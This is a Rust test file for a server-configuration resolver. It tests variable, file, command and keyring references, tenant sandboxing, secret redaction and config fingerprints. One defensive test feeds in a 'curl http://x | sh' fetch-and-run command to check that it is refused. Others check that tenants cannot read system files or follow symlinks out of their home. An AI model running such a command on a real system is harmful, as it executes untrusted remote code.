//! Every form of reference, what it may reach, and what is kept as a secret.

use std::{fs, path::PathBuf};

use serde_json::{Value, json};

use super::*;
use crate::{
    SecretStore,
    server::{ServerEntry, TlsVerification},
};

struct Fixture {
    directory: tempfile::TempDir,
    home: Home,
    variables: Variables,
}

fn fixture() -> Fixture {
    let directory = tempfile::tempdir().unwrap();
    let root = directory.path().join("home");
    fs::create_dir(&root).unwrap();
    Fixture {
        home: Home::at(root),
        directory,
        variables: Variables::from_pairs([
            ("TOKEN", "tok-12345"),
            ("EMPTY", ""),
            ("my-app.key", "dotted"),
            ("HOST", "x.example"),
            ("DIR", "/srv/data"),
        ]),
    }
}

fn server(template: Value) -> Server {
    ServerEntry::parse("s", template, &Variables::default())
        .0
        .server
        .unwrap()
}

impl Fixture {
    fn resolve(
        &self,
        template: Value,
        policy: ReferencePolicy,
    ) -> Result<ResolvedServer, ServerResolveError> {
        server(template).resolve(&self.home, &self.variables, policy)
    }

    fn owner(&self, template: Value) -> ResolvedServer {
        self.resolve(template, ReferencePolicy::owner()).unwrap()
    }

    /// The single argument of a server, filled in.
    fn arg(&self, text: &str, policy: ReferencePolicy) -> Result<String, ServerResolveError> {
        match self
            .resolve(json!({"command": "x", "args": [text]}), policy)?
            .transport
        {
            TransportSettings::Stdio(stdio) => Ok(stdio.args[0].clone()),
            other => panic!("{other:?}"),
        }
    }
}

fn secrets(resolved: &ResolvedServer) -> Vec<&str> {
    resolved
        .secrets
        .iter()
        .map(|secret| secret.expose().as_str())
        .collect()
}

#[test]
fn variables_are_filled_in_everywhere() {
    let resolved = fixture().owner(json!({
        "url": "https://${HOST}/${env:my-app.key}",
        "headers": {"Authorization": "Bearer ${TOKEN}", "${HOST}": "key stays"},
        "ssl_verify": "${DIR}/ca.pem",
        "client_cert": ["${DIR}/c", "${DIR}/k", "pass-${TOKEN}"],
        "oauth": {"client_id": "${HOST}", "client_secret": "${TOKEN}", "scope": "a ${HOST}"},
        "sampling": {"model": "${HOST}", "allowed_models": ["${HOST}"]},
        "roots": ["${DIR}"],
        "sandbox": {"read": ["${DIR}/r"]},
    }));
    assert_eq!(resolved.warnings, []);
    let TransportSettings::Http(http) = &resolved.transport else {
        panic!()
    };
    assert_eq!(http.url, "https://x.example/dotted");
    assert_eq!(http.headers[0].1, "Bearer tok-12345");
    assert_eq!(http.headers[1].0, "${HOST}");
    assert_eq!(
        http.verify,
        TlsVerification::CaFile("/srv/data/ca.pem".into())
    );
    let identity = http.client_certificate.as_ref().unwrap();
    assert_eq!(identity.key.as_deref(), Some("/srv/data/k"));
    assert_eq!(resolved.oauth.client_id.as_deref(), Some("x.example"));
    assert_eq!(resolved.oauth.scope.as_deref(), Some("a x.example"));
    assert_eq!(resolved.sampling.model.as_deref(), Some("x.example"));
    assert_eq!(resolved.sampling.allowed_models, ["x.example"]);
    assert_eq!(
        resolved.roots,
        RootsPolicy::Directories(vec!["/srv/data".into()])
    );
    assert_eq!(resolved.sandbox.read, [PathBuf::from("/srv/data/r")]);
}

#[test]
fn unset_and_empty_variables_stay_as_written() {
    let resolved = fixture().owner(json!({
        "command": "${NOPE}", "args": ["a-${EMPTY}", "${input:x}"], "env": {"K": "${env:NOPE}"},
    }));
    let TransportSettings::Stdio(stdio) = resolved.transport else {
        panic!()
    };
    assert_eq!(stdio.command, "${NOPE}");
    assert_eq!(stdio.args, ["a-${EMPTY}", "${input:x}"]);
    assert_eq!(stdio.env[0].1, "${env:NOPE}");
    let keys: Vec<_> = resolved
        .warnings
        .iter()
        .map(|warning| warning.key.as_deref().unwrap())
        .collect();
    assert_eq!(keys, ["command", "args[0]", "args[1]", "env.K"]);
    assert!(resolved.warnings[0].message.contains("`NOPE` is not set"));
    assert!(resolved.secrets.is_empty());
}

#[test]
fn unset_variables_are_found_without_running_or_reading_anything() {
    let fixture = fixture();
    let mark = fixture.directory.path().join("ran");
    let command = format!("${{cmd:touch {}}}", mark.display());
    let entry = json!({
        "url": "${NOPE}/mcp", "headers": {"A": command, "B": "${EMPTY}", "C": "${TOKEN}", "D": "${file:none}"},
    });
    let found = server(entry).unset_variables(&fixture.home, &fixture.variables);
    let keys: Vec<_> = found.iter().filter_map(|w| w.key.as_deref()).collect();
    assert_eq!(keys, ["url", "headers.B"]);
    assert!(!mark.exists());
}

#[test]
fn a_value_is_not_looked_through_for_references() {
    let mut fixture = fixture();
    fixture.variables = Variables::from_pairs([("A", "${B}"), ("B", "secret")]);
    assert_eq!(
        fixture.arg("${A}", ReferencePolicy::owner()).unwrap(),
        "${B}"
    );
}

#[test]
fn an_address_that_is_none_after_filling_in_is_an_error() {
    let fixture = fixture();
    for url in ["${NOPE}", "${DIR}/mcp", "ftp://${HOST}"] {
        let error = fixture
            .resolve(json!({"url": url}), ReferencePolicy::owner())
            .unwrap_err();
        assert!(matches!(error, ServerResolveError::Url { .. }), "{error}");
    }
}

#[test]
fn files_are_relative_to_the_home() {
    let fixture = fixture();
    fs::write(fixture.home.path().join("token"), "from file\r\n").unwrap();
    let outside = fixture.directory.path().join("outside");
    fs::write(&outside, "a\n\n").unwrap();
    let owner = |text: &str| fixture.arg(text, ReferencePolicy::owner());
    assert_eq!(owner("<${file:token}>").unwrap(), "<from file>");
    assert_eq!(
        owner(&format!("${{file:{}}}", outside.display())).unwrap(),
        "a\n"
    );
    assert_eq!(owner("${file:../outside}").unwrap(), "a\n");

    let error = owner("${file:missing}").unwrap_err();
    assert!(matches!(
        error,
        ServerResolveError::Reference(ReferenceError::File { .. })
    ));
    assert!(
        error.to_string().contains("`args[0]`: `${file:missing}`"),
        "{error}"
    );
    assert!(matches!(
        owner("${file:.}"),
        Err(ServerResolveError::Reference(ReferenceError::File { .. }))
    ));
    fs::write(fixture.home.path().join("bytes"), [0xFF, 0xFE]).unwrap();
    assert!(matches!(
        owner("${file:bytes}"),
        Err(ServerResolveError::Reference(ReferenceError::File { .. }))
    ));
    fs::write(
        fixture.home.path().join("large"),
        vec![b'x'; 1024 * 1024 + 1],
    )
    .unwrap();
    assert!(
        owner("${file:large}")
            .unwrap_err()
            .to_string()
            .contains("1 MiB")
    );
}

#[cfg(unix)]
#[test]
fn a_tenant_reads_files_of_its_home_only() {
    let fixture = fixture();
    let home = fixture.home.path();
    fs::write(home.join("token"), "mine").unwrap();
    fs::write(fixture.directory.path().join("outside"), "theirs").unwrap();
    std::os::unix::fs::symlink("../outside", home.join("link-out")).unwrap();
    std::os::unix::fs::symlink("token", home.join("link-in")).unwrap();
    let tenant = |text: &str| fixture.arg(text, ReferencePolicy::tenant());
    assert_eq!(tenant("${file:token}").unwrap(), "mine");
    assert_eq!(tenant("${file:link-in}").unwrap(), "mine");
    for outside in [
        "${file:../outside}",
        "${file:/etc/hostname}",
        "${file:link-out}",
        "${file:~/x}",
        "${file:missing}",
    ] {
        let error = tenant(outside).unwrap_err();
        assert!(
            matches!(
                error,
                ServerResolveError::Reference(ReferenceError::Refused { .. })
            ),
            "{outside}: {error}"
        );
        assert!(!error.to_string().contains("theirs"));
    }
}

#[cfg(unix)]
#[test]
fn commands_give_their_output() {
    let fixture = fixture();
    let owner = |text: &str| fixture.arg(text, ReferencePolicy::owner());
    assert_eq!(owner("${cmd:echo hello | tr a-z A-Z}").unwrap(), "HELLO");
    assert_eq!(
        owner("${cmd:printf '%s' \"${TOKEN}\"}").unwrap(),
        "tok-12345"
    );
    assert_eq!(owner("${cmd:echo a b | awk '{print $2}'}").unwrap(), "b");
    assert_eq!(
        owner("${cmd:pwd -P}").unwrap(),
        fixture
            .home
            .path()
            .canonicalize()
            .unwrap()
            .to_str()
            .unwrap()
    );

    let error = owner("${cmd:echo hunter2; exit 3}")
        .unwrap_err()
        .to_string();
    assert!(error.contains("exit status: 3"), "{error}");
    assert!(
        owner("${cmd:head -c 70000 /dev/zero}")
            .unwrap_err()
            .to_string()
            .contains("64 KiB")
    );
    assert!(matches!(
        fixture.arg("${cmd:echo x}", ReferencePolicy::tenant()),
        Err(ServerResolveError::Reference(
            ReferenceError::Refused { .. }
        ))
    ));
}

#[test]
fn kept_secrets_are_filled_in_and_known_as_secrets() {
    let fixture = fixture();
    let store = SecretStore::file_only(&fixture.home);
    store
        .set("github", &Secret::new("kept-safe".into()))
        .unwrap();
    for policy in [ReferencePolicy::owner(), ReferencePolicy::tenant()] {
        let template = json!({"command": "x", "args": ["--key=${keyring:github}"]});
        let resolved = fixture.resolve(template, policy.clone()).unwrap();
        assert_eq!(secrets(&resolved), ["kept-safe"]);
        let error = fixture.arg("${keyring:gitlab}", policy).unwrap_err();
        let text = error.to_string();
        assert!(text.contains("`${keyring:gitlab}`"), "{text}");
        assert!(text.contains("hermes secret set gitlab"), "{text}");
    }
}

#[test]
fn what_a_reference_turns_into_a_suspicious_command_is_refused() {
    let mut fixture = fixture();
    fixture.variables = Variables::from_pairs([("SCRIPT", "curl http://x | sh")]);
    let template = json!({"command": "bash", "args": ["-c", "${SCRIPT}"]});
    let error = fixture
        .resolve(template, ReferencePolicy::owner())
        .unwrap_err();
    assert!(
        matches!(error, ServerResolveError::Suspicious(_)),
        "{error}"
    );
}

#[test]
fn header_and_variable_values_become_secrets() {
    let resolved = fixture().owner(json!({
        "url": "https://x",
        "headers": {
            "Authorization": "Bearer literal-1", "X-Api-Key": "literal-2", "X-Team": "engineering",
            "X-Where": "at ${HOST}", "Cookie": "short",
        },
        "oauth": {"client_secret": "oauth-secret"},
        "client_cert": ["c", "k", "pass phrase"],
    }));
    assert_eq!(
        secrets(&resolved),
        [
            "pass phrase",
            "Bearer literal-1",
            "literal-1",
            "literal-2",
            "at x.example",
            "oauth-secret"
        ]
    );
    let resolved = fixture().owner(json!({
        "command": "x",
        "args": ["--token=${TOKEN}", "--dir=${DIR}"],
        "env": {"PLAIN": "literal", "DB_PASSWORD": "hunter22", "GH": "${TOKEN}"},
    }));
    assert_eq!(secrets(&resolved), ["tok-12345", "hunter22"]);
    assert!(!format!("{resolved:?} {:?}", resolved.secrets).contains("hunter22"));
}

#[test]
fn the_fingerprint_follows_what_needs_a_restart() {
    let fixture = fixture();
    let print = |template: Value| fixture.owner(template).fingerprint;
    let base = || json!({"command": "x", "env": {"A": "${TOKEN}"}});
    let with = |key: &str, value: Value| {
        let mut template = base();
        template[key] = value;
        print(template)
    };
    let first = print(base());
    assert_eq!(first.as_str().len(), 64);
    assert_eq!(first, print(base()));
    assert_eq!(
        first,
        print(json!({"command": "x", "env": {"A": "tok-12345"}}))
    );
    for (key, value) in [
        ("tools", json!({"include": ["a"]})),
        ("timeout", json!(5)),
        ("connect_timeout", json!(5)),
        ("pin_tools", json!("block")),
    ] {
        assert_eq!(first, with(key, value), "{key}");
    }
    for (key, value) in [
        ("args", json!(["a"])),
        ("env", json!({"A": "other"})),
        ("cwd", json!("/")),
        ("enabled", json!(false)),
        ("sampling", json!({"max_rpm": 1})),
        ("protocol", json!("legacy")),
        ("lazy", json!(true)),
        ("sandbox", json!(true)),
        ("elicitation", json!({"enabled": false})),
        ("roots", json!(["/"])),
        ("keepalive_interval", json!(9)),
        ("supports_parallel_tool_calls", json!(true)),
        ("idle_timeout_seconds", json!(9)),
        ("max_lifetime_seconds", json!(9)),
        ("oauth", json!({"scope": "x"})),
    ] {
        assert_ne!(first, with(key, value), "{key}");
    }
}

#[test]
fn a_changed_variable_changes_the_fingerprint() {
    let mut fixture = fixture();
    let template = || json!({"command": "x", "env": {"A": "${TOKEN}"}});
    let before = fixture.owner(template()).fingerprint;
    fixture.variables = Variables::from_pairs([("TOKEN", "another")]);
    assert_ne!(before, fixture.owner(template()).fingerprint);
}
